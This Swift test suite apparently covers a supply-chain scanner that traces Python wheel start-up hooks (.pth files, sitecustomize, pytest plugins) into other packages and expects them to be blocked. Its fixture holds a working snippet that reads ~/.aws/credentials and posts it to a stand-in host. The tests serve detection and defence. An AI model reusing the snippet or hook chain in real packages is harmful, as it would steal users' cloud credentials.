import Evidence
import Intake
import Policy
import TestSupport
import Testing

@Suite("Code that leads from one distribution into another")
struct NeighboursTests {
  private let directory = TemporaryDirectory()

  private static let theft = """
    import os, urllib.request
    def go():
        with open(os.path.expanduser('~/.aws/credentials'), 'rb') as secret:
            urllib.request.urlopen('http://demo.example.org/', data=secret.read())

    """

  private func check(_ paths: [String], together: Bool = true, jobs: Int = 2) -> CheckReport {
    var options = IntakeOptions.forTests
    options.jobs = jobs
    options.areInstalledTogether = together
    return Intake.check(
      paths.map(TargetRequest.path), policy: Policy(.balanced), options: options, now: Timestamp(seconds: 0))
  }

  private func wheel(_ name: String, _ files: [(String, String)]) -> String {
    WheelBuilder(name: name, files: files).write(to: directory)
  }

  @Test(
    "is followed from a start-up line, a customize module and a plugin to the end of the chain",
    arguments: [
      [("helper.pth", "import helper_core; helper_core.go()\n")],
      [("sitecustomize.py", "from helper_core import go\ngo()\n")],
      [("starter/__init__.py", "import helper_core\nhelper_core.go()\n"), ("starter.pth", "import starter\n")],
      [
        ("starter-1.0.dist-info/entry_points.txt", "[pytest11]\nstarter = starter\n"),
        ("starter.py", "import helper_core\nhelper_core.go()\n"),
      ],
    ])
  func payloadElsewhere(files: [(String, String)]) throws {
    let paths = [wheel("starter", files), wheel("helper-core", [("helper_core.py", Self.theft)])]
    let report = check(paths)
    let starter = try #require(report.artifacts.first)
    #expect(starter.decision.verdict == .block)
    #expect(starter.evidence.followedInto == ["helper_core-1.0-py3-none-any.whl"])
    let finding = try #require(starter.evidence.findings.first { $0.rule == "PRQ101" })
    #expect(finding.severity == .critical)
    let last = try #require(finding.chain.last)
    #expect(last.path == "helper_core-1.0-py3-none-any.whl!/helper_core.py")
    #expect(starter.evidence.excerpts.contains { $0.path == last.path && $0.line == last.line })
    #expect(report.artifacts[1].decision.verdict != .block)
    #expect(report.artifacts[1].evidence.followedInto.isEmpty)
    #expect(check(paths, together: false).artifacts[0].decision.verdict != .block)
  }

  @Test("is followed through a third one")
  func twoSteps() throws {
    let paths = [
      wheel("starter", [("a.pth", "import middle\n")]),
      wheel("middle", [("middle/__init__.py", "import helper_core\nhelper_core.go()\n")]),
      wheel("helper-core", [("helper_core.py", Self.theft)]),
    ]
    let report = try #require(check(paths).artifacts.first)
    #expect(report.decision.verdict == .block)
    #expect(report.evidence.followedInto == ["helper_core-1.0-py3-none-any.whl", "middle-1.0-py3-none-any.whl"])
  }

  @Test("does not make a hook harmful that uses another one harmlessly")
  func twin() throws {
    let paths = [
      wheel("starter", [("a.pth", "import helper_core; helper_core.name()\n")]),
      wheel("helper-core", [("helper_core.py", Self.theft + "def name(): return 'helper'\n")]),
    ]
    let report = try #require(check(paths).artifacts.first)
    #expect(report.evidence.followedInto == ["helper_core-1.0-py3-none-any.whl"])
    #expect(!report.evidence.findings.contains { $0.severity >= .high })
  }

  @Test("is the same for every order and number of threads")
  func order() {
    let paths = [
      wheel("starter", [("a.pth", "import middle\n")]),
      wheel("middle", [("middle/__init__.py", "import helper_core\nhelper_core.go()\n")]),
      wheel("helper-core", [("helper_core.py", Self.theft)]),
    ]
    let first = check(paths, jobs: 1).artifacts[0].evidence
    for jobs in [2, 4] {
      let other = check(paths.reversed(), jobs: jobs).artifacts[2].evidence
      #expect(other.findings == first.findings)
      #expect(
        other.reached.map { "\($0.capabilities)\($0.flows)" } == first.reached.map { "\($0.capabilities)\($0.flows)" })
      #expect(other.followedInto == first.followedInto)
    }
  }
}
